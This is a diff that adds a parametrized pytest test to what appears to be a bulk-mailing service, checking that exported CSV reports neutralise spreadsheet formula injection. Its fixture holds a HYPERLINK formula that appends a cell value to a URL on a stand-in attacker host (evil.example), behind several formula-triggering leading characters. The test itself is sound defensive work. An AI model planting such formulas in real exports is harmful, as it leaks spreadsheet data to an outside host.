@@ -268,6 +268,20 @@ def test_a_report_holds_no_formula(state: State, catcher: Catcher) -> None:
     assert [row["state"] for row in rows] == ["failed", "failed"]
 
 
+@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
+def test_no_beginning_of_a_word_is_taken_for_a_formula(
+    state: State, catcher: Catcher, beginning: str
+) -> None:
+    formula = f'{beginning}HYPERLINK("http://evil.example?x="&A1,"x")'
+    job_id = create(state, "email\nann@shop.example\n", confirm=True)
+    run(state, job_id)
+    with state.database.begin() as connection:  # where one line was not made of it
+        connection.execute(sa.update(BulkRow).values(left_out="bad", reason=formula))
+        connection.execute(sa.update(Delivery).values(reason=formula))
+    (row,) = csv.DictReader(io.StringIO("".join(bulk.written(bulk.report(state, job_id)))))
+    assert row["words"] == f"'{formula}"
+
+
 def test_a_person_who_is_purged_is_not_mailed(state: State, catcher: Catcher) -> None:
     text = addresses(range(3))
     checked = create(state, text)
